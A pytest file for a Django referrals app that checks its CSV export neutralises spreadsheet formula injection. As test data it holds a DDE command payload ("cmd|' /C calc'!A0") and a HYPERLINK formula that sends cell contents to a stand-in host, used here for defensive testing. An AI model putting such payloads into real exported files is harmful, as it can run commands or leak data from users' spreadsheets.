"""CSV export of the filtered queue, safe against formula injection."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from referrals.export import neutralise
from referrals.models import ReferralState
from tests.clock import TODAY
from tests.conftest import client_for
from tests.patients.factories import PatientFactory
from tests.referrals.factories import make_referral, move

S = ReferralState


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
        ("+41 22 555", "'+41 22 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1", "'\n=1"),
        ("\x00x", "'\x00x"),
        ("\x1bx", "'\x1bx"),
        ("\x7fx", "'\x7fx"),
        ("cmd|' /C calc'!A0", "cmd|' /C calc'!A0"),
        ("A=1", "A=1"),
        ("plain", "plain"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_neutralise(cell, expected) -> None:
    assert neutralise(cell) == expected


def export(client, **params) -> list[list[str]]:
    response = client.get(reverse("referrals:export"), params)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_hostile_values_are_neutralised_in_the_file(site_a, staff) -> None:
    patient = PatientFactory(site=site_a, identifier="=cmd|' /C calc'!A0")
    referral = make_referral(patient, staff, state=S.IN_REVIEW)
    move(referral, staff, S.REFERRED, centre="@evil centre", referred_on=TODAY)
    header, row = export(client_for(staff), state="all")
    assert header[0] == "referral" and len(row) == len(header)
    values = dict(zip(header, row, strict=True))
    assert values["patient"] == "'=cmd|' /C calc'!A0"
    assert values["centre"] == "'@evil centre"
    assert values["state"] == "Referred" and values["pathway"] == "HSCT"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)


@pytest.mark.django_db
def test_export_follows_the_filters_and_sites(site_a, site_b, staff) -> None:
    make_referral(PatientFactory(site=site_a, identifier="NEW-A"))
    make_referral(PatientFactory(site=site_a, identifier="REV-A"), staff, state=S.IN_REVIEW)
    make_referral(PatientFactory(site=site_b, identifier="NEW-B"))
    client = client_for(staff)
    assert sorted(r[1] for r in export(client)[1:]) == ["NEW-A", "REV-A"]
    assert [r[1] for r in export(client, state="in_review")[1:]] == ["REV-A"]


@pytest.mark.django_db
def test_export_uses_none_of_the_forbidden_words(site_a, staff) -> None:
    make_referral(PatientFactory(site=site_a), staff, state=S.IN_REVIEW)
    text = "\n".join(",".join(r) for r in export(client_for(staff), state="all")).lower()
    for word in ("eligible", "eligibility", "approved", "candidate"):
        assert word not in text
